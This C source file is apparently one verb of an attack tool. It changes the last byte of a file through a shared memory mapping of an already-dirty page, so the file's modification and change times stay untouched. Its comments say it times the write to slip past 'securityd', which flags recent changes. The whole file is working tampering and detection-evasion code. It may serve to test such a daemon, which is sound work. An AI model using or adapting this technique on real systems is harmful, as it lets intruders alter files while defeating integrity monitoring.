/* mapped FILE: changes the last byte of FILE through a mapping of its page, so that the times of FILE do not change.

   The kernel sets the times of a file at the first write to a clean page of a shared mapping. A write to a page that is
   already dirty sets nothing. The program prints "dirty" once the page is, waits for a line, changes the byte, and prints
   "changed". */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* This time is longer than that for which securityd considers a change recent. */
enum { SETTLED_MILLISECONDS = 2500, MOST_ATTEMPTS = 5 };

static int is_stamped(const struct stat *before, const struct stat *after) {
    return memcmp(&before->st_mtim, &after->st_mtim, sizeof before->st_mtim) != 0
        || memcmp(&before->st_ctim, &after->st_ctim, sizeof before->st_ctim) != 0;
}

int verb_mapped(int count, char **words) {
    if (count != 1) return 2;
    struct stat before, after;
    int file = open(words[0], O_RDWR | O_CLOEXEC);
    if (file < 0 || fstat(file, &before) != 0 || before.st_size == 0) return perror(words[0]), 1;
    off_t last = before.st_size - 1, start = last & ~(off_t)(getpagesize() - 1);
    volatile char *page = mmap(NULL, (size_t)(last - start) + 1, PROT_READ | PROT_WRITE, MAP_SHARED, file, start);
    if (page == MAP_FAILED) return perror("mmap"), 1;
    close(file);
    char old = page[last - start], line[16];
    for (int attempt = 0; attempt < MOST_ATTEMPTS; attempt++) {
        page[last - start] = old;
        struct timespec pause = {SETTLED_MILLISECONDS / 1000, SETTLED_MILLISECONDS % 1000 * 1000000};
        nanosleep(&pause, NULL);
        if (stat(words[0], &before) != 0) return 1;
        printf("dirty\n");
        if (!fgets(line, sizeof line, stdin)) return 1;
        page[last - start] = (char)(old + 1);
        if (stat(words[0], &after) != 0) return 1;
        /* The page was written to disk meanwhile, so the times changed: it tries again. */
        if (!is_stamped(&before, &after)) return printf("changed\n"), 0;
    }
    return printf("stamped\n"), 1;
}
